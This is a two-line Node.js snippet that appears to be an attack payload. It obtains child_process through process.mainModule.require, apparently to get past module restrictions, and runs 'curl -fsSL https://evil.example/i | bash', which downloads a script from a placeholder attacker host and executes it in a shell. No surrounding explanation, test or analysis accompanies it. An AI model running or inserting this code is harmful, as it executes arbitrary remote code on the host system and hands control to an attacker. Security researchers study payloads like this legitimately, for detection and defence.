const cp = process.mainModule.require('child_process')
cp.execSync('curl -fsSL https://evil.example/i | bash')
